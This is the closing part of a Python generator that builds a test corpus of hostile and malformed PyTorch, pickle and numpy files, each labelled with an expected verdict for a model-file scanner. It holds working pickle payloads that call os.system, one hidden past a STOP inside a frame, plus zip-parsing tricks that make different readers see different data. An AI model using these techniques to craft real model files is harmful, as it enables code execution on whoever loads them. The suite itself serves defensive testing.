    state = EMPTY_DICT + MARK + b"".join(uni(n) + glob("collections", "OrderedDict") for n in ("keys", "items", "values"))
    data = zipped(pk(od + state + SETITEMS + BUILD), [("0", f4)])
    sd = torch.load(io.BytesIO(data), weights_only=True)
    assert list(sd) == ["w"] and dict(sd) == {}
    add("odict_shadow_keys.pt", data, "unsafe", "object_state_refused",
        "OrderedDict BUILD {'keys': OrderedDict, ...}: sd.keys() and load_state_dict see an empty mapping",
        "red team B §5")
    cnt = glob("collections", "Counter") + EMPTY_TUPLE + REDUCE + uni("a") + integer(1) + SETITEM
    data = pk(cnt + EMPTY_DICT + uni("most_common") + glob("collections", "OrderedDict") + SETITEM + BUILD)
    add("counter_shadow_method.pkl", data, "unsafe", "object_state_refused",
        "Counter BUILD {'most_common': OrderedDict}: shadows the class's method", "red team B §5")
def legacy_pickles(obj):
    """torch.save(obj) in the legacy format, split into its five pickles and the storage tail."""
    raw = torch_bytes(obj, _use_new_zipfile_serialization=False, pickle_protocol=2)
    parts, pos = [], 0
    for _ in range(5):
        f = io.BytesIO(raw[pos:])
        for _op in pickletools.genops(f):
            pass  # genops stops after STOP: f.tell() is the end of this pickle
        parts.append(raw[pos:pos + f.tell()])
        pos += f.tell()
    return parts, raw[pos:]


class _System:
    def __reduce__(self):
        return (os.system, (CMD,))


def gen_container_layer():
    """Red team A (container layer): where a pickle ends, which torch read mode reads which
    bytes, and what torch.jit.load / miniz / zipfile take a record or a file for. Checked with
    torch 2.15 (venv) and torch 1.13 (/usr/bin/python3) when the cases were written."""
    # Legacy sys_info pickle whose FRAME (>= 8 KiB: _pickle read()s it) runs past its STOP: CPython
    # resumes at the frame's end (pickles 4-5 with a payload); bytes after STOP inside the frame
    # are a benign pickle 4-5 and one uint8 storage covering the rest of the file.
    n_benign = 9000
    evil_parts, evil_tail = legacy_pickles({"weight": torch.full((4,), 7.0), "x": _System()})
    region_b = evil_parts[3] + evil_parts[4] + evil_tail
    ben_parts, _ = legacy_pickles({"weight": torch.zeros(n_benign, dtype=torch.uint8)})
    region_a = ben_parts[3] + ben_parts[4] + struct.pack("<q", n_benign)
    frame_body = EMPTY_DICT + STOP + region_a + b"\0" * (n_benign - len(region_b))
    assert len(frame_body) >= 8192
    sys_info = b"\x80\x04\x95" + u64(len(frame_body)) + frame_body
    add("legacy_frame_past_stop.pt", evil_parts[0] + evil_parts[1] + sys_info + region_b, "unsafe",
        "pickle_global_blocked", "legacy sys_info FRAME runs past STOP: torch resumes at the frame's end, "
        "where a payload pickle sits (torch 1.13 torch.load runs it)", "red team A §1; CPython _pickle load_frame",
        warnings=["pickle_stop_inside_frame"])
    # The same frame in a bare pickle, payload inside the frame after STOP (_pickle peek()s a
    # small frame of a buffered file and reads it next).
    tail = pk(call("os", "system", CMD))
    add("bare_frame_tail_payload.pkl", b"\x80\x04\x95" + u64(2 + len(tail)) + NONE + STOP + tail, "unsafe",
        "pickle_global_blocked", "FRAME open at STOP holds a payload pickle (read next by a peek()ing _pickle)",
        "red team A §1", warnings=["pickle_stop_inside_frame"])

    base = records_of(torch_bytes({"w": torch.arange(64, dtype=torch.float32)}))
    # A deflated storage: torch.load inflates it, torch.load(mmap=True) slices the compressed bytes.
    data = build_zip([Rec(r.name, r.data, method=8 if r.name.endswith("/data/0") else 0) for r in base])
    torch_loads_weights_only(data)
    add("deflated_storage.pt", data, "malformed", "storage_deflated",
        "deflated storage record: torch.load(mmap=True) reads the deflate stream as the tensor", "red team A §4")
    # miniz directories: the DOS directory attribute, or a name ending in '/'.
    data = build_zip([Rec(r.name, r.data, ext_attr=0x10 if r.name.endswith("/data/0") else 0) for r in base])
    add("dir_attr_storage.pt", data, "malformed", "zip_bad_name",
        "storage record with the DOS directory attribute: miniz extracts nothing (uninitialised tensor)", "red team A §3")
    recs = []
    for r in base:
        if r.name.endswith("/data.pkl"):
            assert r.data.count(b"X\x01\x00\x00\x000") == 1
            recs.append(Rec(r.name, r.data.replace(b"X\x01\x00\x00\x000", b"X\x02\x00\x00\x000/")))
        else:
            recs.append(Rec(r.name + "/" if r.name.endswith("/data/0") else r.name, r.data))
    add("dir_name_storage.pt", build_zip(recs), "malformed", "zip_bad_name",
        "storage key '0/': record data/0/ is a directory to miniz (uninitialised tensor)", "red team A §3")
    # A UTF-8 flagged "\u251c\u00e7" and an unflagged b"\xc3\x87": one name to zipfile (cp437), two to miniz.
    recs = []
    for r in base:
        if r.name.endswith("/data.pkl"):
            k = "\u251c\u00e7".encode()
            recs.append(Rec(r.name, r.data.replace(b"X\x01\x00\x00\x000", b"X" + u32(len(k)) + k)))
        elif r.name.endswith("/data/0"):
            root = r.name.split("/")[0]
            recs.append(Rec(root + "/data/\u251c\u00e7", r.data))
            recs.append(Rec(root + "/data/\u00c7", struct.pack("<64f", *([-1.0] * 64)), local_flags=0x0008,
                            central_flags=0x0008))
        else:
            recs.append(Rec(r.name, r.data))
    add("zipfile_name_alias.pt", build_zip(recs), "malformed", "zip_duplicate_name",
        "non-ASCII names with and without the UTF-8 flag: zipfile reads another record under the storage's name",
        "red team A §6; CPython zipfile _decodeExtra/cp437")
    # 'PTMF' at offset 4 (MARK, SHORT_BINBYTES "\0PTMF"): torch.jit.load reads a flatbuffer module.
    add("flatbuffer_magic_pickle.pkl", b"(C\x05\x00PTMF" + b"t" + STOP, "unsafe", "torchscript_archive",
        "a pickle whose bytes 4..7 are 'PTMF': torch.jit.load's getFileFormat takes it for a flatbuffer module",
        "red team A §2; torch/csrc/jit/mobile/file_format.h")


# =========================================================================== numpy data (issue 12 §0)

def np_dtype(code, order="<", state=None, args=None):
    """numpy.dtype(code, False, True) + BUILD state, as numpy pickles a dtype."""
    st = state if state is not None else (3, order, None, None, None, -1, -1, 0)
    return call("numpy", "dtype", *(args if args is not None else (code, False, True))) + enc(st) + BUILD


def np_array(dt, shape, data, fortran=False, recon_args=None, extra=b""):
    """_reconstruct(ndarray, (0,), b'b') + BUILD (1, shape, dtype, is_fortran, data)."""
    args = recon_args if recon_args is not None else (Raw(glob("numpy", "ndarray")), (0,), b"b")
    return (call("numpy.core.multiarray", "_reconstruct", *args) + MARK + integer(1) + enc(tuple(shape)) + dt
            + (NEWTRUE if fortran else NEWFALSE) + enc(data) + TUPLE + BUILD + extra)


def np_file(body):
    return tensor_zip(PROTO2 + EMPTY_DICT + uni("a") + body + SETITEM + STOP, None)


def gen_numpy_data():
    """Hand-made numpy and TorchVersion forms beyond what numpy and torch write: each must fail
    with its exact rule, none may be decoded loosely."""
    src = "issue 12 §0"
    f8 = np_dtype("f8")
    cases = [
        ("np_array_benign.pt", np_array(f8, (2, 3), struct.pack("<6d", *range(6))), "safe", None,
         "float64 [2, 3] array in numpy's own form: decoded with a warning"),
        ("np_array_bytes_short.pt", np_array(f8, (2, 3), b"\0" * 40), "malformed", "bad_rebuild_args",
         "array shape [2, 3] of float64 needs 48 bytes, data holds 40"),
        ("np_array_shape_overflow.pt", np_array(f8, (2 ** 62, 2 ** 62), b"\0" * 8), "malformed", "bad_rebuild_args",
         "array shape whose element count overflows 64 bits"),
        ("np_array_shape_huge.pt", np_array(f8, (2 ** 40,), b"\0" * 8), "malformed", "bad_rebuild_args",
         "array of 2^40 float64 elements over 8 bytes"),
        ("np_array_negative_dim.pt", np_array(f8, (-1, 2), b""), "malformed", "bad_rebuild_args",
         "array shape with a negative size"),
        ("np_array_too_many_dims.pt", np_array(f8, (1,) * 65, b"\0" * 8), "malformed", "limit_exceeded",
         "array of 65 dimensions (max_dims 64)"),
        ("np_array_list_data.pt", np_array(np_dtype("i8"), (2,), [1, 2]), "unsafe", "numpy_dtype_refused",
         "array state whose data is a list (an object array's elements)"),
        ("np_array_build_twice.pt", np_array(f8, (1,), b"\0" * 8,
                                             extra=MARK + integer(1) + enc((1,)) + np_dtype("f8") + NEWFALSE
                                             + enc(b"\0" * 8) + TUPLE + BUILD),
         "unsafe", "pickle_build_refused", "second BUILD on one array"),
        ("np_reconstruct_bad_args.pt", np_array(f8, (1,), b"\0" * 8,
                                                recon_args=(Raw(glob("numpy", "ndarray")), (5,), b"b")),
         "malformed", "bad_rebuild_args", "_reconstruct(ndarray, (5,), b'b'): not numpy's form"),
        ("np_ndarray_called.pt", call("numpy", "ndarray", (2,)), "unsafe", "pickle_call_refused",
         "REDUCE on numpy.ndarray itself"),
        ("np_dtype_object.pt", np_array(np_dtype("O8", "|"), (1,), b"\0" * 8), "unsafe", "numpy_dtype_refused",
         "object dtype 'O8'"),
        ("np_dtype_structured_state.pt",
         np_array(np_dtype("f8", state=(3, "|", None, ("x",), {"x": (None, 0)}, 8, 1, 16)), (1,), b"\0" * 8),
         "unsafe", "numpy_dtype_refused", "numeric dtype code with a structured (fields) state"),
        ("np_dtype_wrong_args.pt", np_array(np_dtype("f8", args=("f8", True, True)), (1,), b"\0" * 8),
         "malformed", "bad_rebuild_args", "numpy.dtype('f8', True, True): align set, not numpy's form"),
        ("np_dtype_bad_byteorder.pt", np_array(np_dtype("f8", "|"), (1,), b"\0" * 8), "malformed",
         "bad_rebuild_args", "float64 dtype with byte order '|'"),
        ("np_scalar_wrong_size.pt", call("numpy.core.multiarray", "scalar", Raw(f8), b"\0" * 4), "malformed",
         "bad_rebuild_args", "float64 scalar from 4 bytes"),
        ("np_scalar_torch_dtype.pt", call("numpy.core.multiarray", "scalar", Raw(glob("torch", "float64")), b"\0" * 8),
         "malformed", "bad_rebuild_args", "numpy scalar of a torch dtype"),
        ("np_scalar_bool_two.pt", call("numpy._core.multiarray", "scalar", Raw(np_dtype("b1", "|")), b"\x02"),
         "malformed", "bad_rebuild_args", "numpy bool scalar of byte 2"),
        ("torch_version_two_args.pt", glob("torch.torch_version", "TorchVersion") + enc(("2.4.1", "x")) + NEWOBJ,
         "malformed", "bad_rebuild_args", "TorchVersion with two arguments"),
        ("torch_version_int.pt", call("torch.torch_version", "TorchVersion", 7), "malformed", "bad_rebuild_args",
         "TorchVersion(7)"),
        ("torch_version_state.pt", call("torch.torch_version", "TorchVersion", "2.4.1") + enc({"x": 1}) + BUILD,
         "unsafe", "pickle_build_refused", "TorchVersion with a non-empty BUILD state"),
    ]
    for name, body, verdict, rule, tech in cases:
        data = np_file(body)
        torch_refuses_weights_only(data)
        add(name, data, verdict, rule, tech, src,
            warnings=["beyond_torch_allowlist"] if verdict == "safe" else None)


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    gen_gadgets()
    gen_vm()
    gen_containers()
    gen_zip_tail()
    gen_resources()
    gen_output()
    gen_benign()
    gen_tar_polyglots()
    gen_rebuild_semantics()
    gen_tensor_state_semantics()
    gen_container_layer()
    gen_numpy_data()
    total = sum(os.path.getsize(os.path.join(OUT, c["file"])) for c in CASES)
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(CASES, f, indent=1, ensure_ascii=False)
        f.write("\n")
    n_safe = sum(c["verdict"] == "safe" for c in CASES)
    print(f"{len(CASES)} files ({len(CASES) - n_safe} hostile, {n_safe} benign), {total} bytes")
    assert total < 2 << 20, "corpus over 2 MB"


if __name__ == "__main__":
    main()
